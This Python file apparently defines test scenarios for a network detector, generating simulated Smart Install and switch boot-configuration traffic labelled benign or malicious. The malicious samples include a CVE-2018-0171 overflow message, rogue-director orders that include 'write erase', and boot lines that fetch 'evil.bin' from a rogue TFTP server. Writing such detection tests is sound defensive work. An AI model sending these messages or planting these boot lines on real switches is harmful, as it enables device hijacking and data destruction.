"""Smart Install messages, boot lines and first blocks in the forms that the first scenarios leave out."""

from __future__ import annotations

import struct

from bootwarden.scenarios.bw06_smart_install import both, command
from bootwarden.scenarios.model import Expect, Notice, scenario
from bootwarden.scenarios.sites import ADMIN, ATTACKER, BOOT_SERVER, HQ, ROGUE
from bootwarden.traffic import ftp, http, tftp
from bootwarden.traffic import smart_install as smi
from bootwarden.traffic.wire import Tcp, Wire

SWITCH = "10.0.1.7"


def discovery(length: int, sent: int) -> bytes:
    """A client's first message to its director, whose one field says that it has so many bytes."""
    return smi.message(7, struct.pack(">II", 1, length) + b"A" * sent)


@scenario("BW06", "malicious", **both(command(None), orders=((4, SWITCH),)))  # type: ignore[arg-type]
def bw06_overflow(wire: Wire) -> None:
    """A discovery message whose second field is far longer than a switch has room for (CVE-2018-0171)."""
    tcp = Tcp(wire, ROGUE, 50786, SWITCH, smi.PORT)
    tcp.send(smi.probe())
    tcp.reply(smi.probe_reply())
    first = struct.pack(">II", 2, 8) + bytes(8)
    tcp.send(smi.message(7, first + struct.pack(">II", 1, 0xC8) + b"A" * 2048, length=24), mss=536)
    tcp.reset()


JOINED = ("10.0.1.8", "10.0.1.9", "10.0.1.10", "10.0.1.11", "10.0.1.12")
ORDERED = (
    *(command(ATTACKER, file="x", device=switch) for switch in JOINED[:3]),
    *(command(None, device=switch) for switch in JOINED[3:]),
)


@scenario(
    "BW06",
    "malicious",
    raises=[("BW06", 5 + n, ATTACKER, switch) for n, switch in enumerate(JOINED)],
    plain=Expect(ORDERED),
    site=HQ,
    with_site=Expect(ORDERED),
)
def bw06_joined_a_rogue_director(wire: Wire) -> None:
    """Switches that join a director of the attacker's get their orders back; one runs another command than copy."""
    url = f"sftp://{ATTACKER}/x"
    commands = (smi.image(url), smi.config(url), smi.execute(url), smi.copy("write erase"), discovery(0x1D, 600))
    for switch, order in zip(JOINED, commands, strict=True):
        tcp = Tcp(wire, switch, 50786, ATTACKER, smi.PORT)
        tcp.send(discovery(0x1C, 0x1C))
        tcp.reply(order)
        tcp.close()


@scenario("BW06", "benign", site=HQ, with_site=Expect())
def bw06_switch_joins(wire: Wire) -> None:
    """A new switch joins its director with a discovery message of the usual length, and both keep in touch."""
    tcp = Tcp(wire, SWITCH, 50786, ADMIN, smi.PORT)
    tcp.send(discovery(0x1C, 0x1C))
    tcp.send(smi.message(7, struct.pack(">II", 2, 64) + bytes(64)))
    tcp.reply(smi.probe())
    tcp.send(smi.probe_reply())
    for _ in range(3):
        wire.wait(30)
        tcp.send(smi.keepalive_reply())
        tcp.reply(smi.message(2, struct.pack(">III", 1, 0, 0)))
    tcp.close()


def served(device: str, file: str) -> Notice:
    """The notice of a configuration that names the rogue server."""
    return Notice("Boot_Config_Served", device, ROGUE, file)


@scenario(
    "BW08",
    "malicious",
    raises=[("BW08", 0, BOOT_SERVER, f"10.0.1.{n}") for n in (41, 42, 43)],
    site=HQ,
    with_site=Expect(tuple(served(f"10.0.1.{n}", f"sw{n}-confg") for n in (41, 42, 43))),
)
def bw08_written_by_hand(wire: Wire) -> None:
    """Boot lines as a hand may write them: abbreviated, with tabs, first in the file; and HPE's own command."""
    lines = (
        f"hostname sw41\n!\nbo sy t evil.bin {ROGUE}\nend\n",
        f"boot\tsystem\ttftp://{ROGUE}/evil.bin\nend\n",
        f'; J9019A Configuration Editor; \n\nhostname "sw43"\nauto-tftp {ROGUE} "Q.swi"\n',
    )
    for number, text in enumerate(lines, 41):
        tftp.read(wire, f"10.0.1.{number}", BOOT_SERVER, f"sw{number}-confg", text.encode())


@scenario(
    "BW08",
    "malicious",
    raises=[("BW08", 4, BOOT_SERVER, "10.0.1.44"), ("BW08", 5, BOOT_SERVER, "10.0.1.45")],
    site=HQ,
    with_site=Expect((served("10.0.1.44", "/sw44.cfg"), served("10.0.1.45", "sw45.cfg"))),
)
def bw08_hpe_by_http_and_ftp(wire: Wire) -> None:
    """The configuration of an HPE switch, by HTTP and by FTP, makes it fetch its image at every start."""
    text = f'; J9019A Configuration Editor\n\nhostname "sw"\nauto-tftp {ROGUE} "Q_evil.swi"\n'.encode()
    http.get(wire, "10.0.1.44", BOOT_SERVER, "/sw44.cfg", text, kind="text/plain", client_port=50081)
    ftp.retrieve(wire, "10.0.1.45", BOOT_SERVER, "sw45.cfg", text)


@scenario("BW08", "benign", site=HQ, with_site=Expect())
def bw08_prose_about_it(wire: Wire) -> None:
    """A manual comes by FTP, HTTP and TFTP; its lines happen to break before the commands that it explains."""
    manual = (
        "Loading images from the network\n\nTo have a router load its image from a server, use the\n"
        "boot system tftp command in global configuration mode. Where the server answers at\n"
        f"boot system tftp://{ROGUE}/image.bin is tried before the flash is, whatever comes first.\n"
        "auto-tftp on the other hand is what switches of another vendor call the same thing.\n"
    ).encode() * 3
    ftp.retrieve(wire, "10.20.1.40", "10.20.0.9", "manual.txt", manual)
    http.get(wire, "10.20.1.40", "93.184.216.34", "/manual.txt", manual, kind="text/plain", client_port=50082)
    tftp.read(wire, "10.20.1.40", BOOT_SERVER, "manual.txt", manual)
